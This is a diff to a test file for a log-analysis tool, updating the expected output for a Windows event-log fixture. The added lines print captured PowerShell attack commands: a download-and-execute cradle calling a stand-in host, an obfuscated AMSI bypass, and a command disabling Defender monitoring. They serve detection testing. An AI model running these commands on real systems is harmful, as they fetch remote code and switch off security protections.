@@ -130,12 +130,16 @@ describe('svc analyze --format table', () => {
     const { code, out } = await svc('analyze', powershell);
     expect(code).toBe(0);
     expect(out.split('\n\n').slice(0, 2).join('\n\n')).toBe(`${powershell}
-  Windows Event Log (EVTX), 36 events, 69.6 kB
+  Windows Event Log (EVTX), 36 events, 68.0 KiB
+  Host WS-FIN-07.corp.harrowpell.example
   SHA-256 ${createHash('sha256').update(readFileSync(powershell)).digest('hex')}
 
   high  1  Script Block Downloads And Runs Code  T1059.001 T1105  execution, command and control  2026-11-17 08:52:48
+           ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://cdn.freight-docs.example/inv/4471')
   high  1  Script Block Tampers With AMSI        T1562.001 T1059.001  execution, defense evasion  2026-11-17 08:52:48
-  high  1  Script Block Weakens Defender         T1562.001  defense evasion                       2026-11-17 09:04:03`);
+           ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
+  high  1  Script Block Weakens Defender         T1562.001  defense evasion                       2026-11-17 09:04:03
+           ScriptBlockText: Set-MpPreference -DisableRealtimeMonitoring $true`);
     const { out: story } = await svc('analyze', security, '--quiet');
     const severities = [...story.matchAll(/^ {2}(critical|high|medium|low) +\d/gm)].map(([, severity]) => severity);
     expect(severities).toHaveLength(13);
